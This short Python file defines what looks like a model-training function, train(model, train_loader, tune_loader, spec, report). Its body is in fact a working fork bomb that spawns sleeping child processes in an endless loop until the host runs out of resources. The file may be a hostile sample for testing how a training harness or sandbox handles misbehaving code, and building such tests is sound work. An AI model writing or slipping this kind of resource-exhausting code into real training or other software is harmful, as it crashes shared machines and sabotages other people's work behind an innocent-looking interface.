"""Forks without end; the children sleep."""

import os
import time


def train(model, train_loader, tune_loader, spec, report):
    while True:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
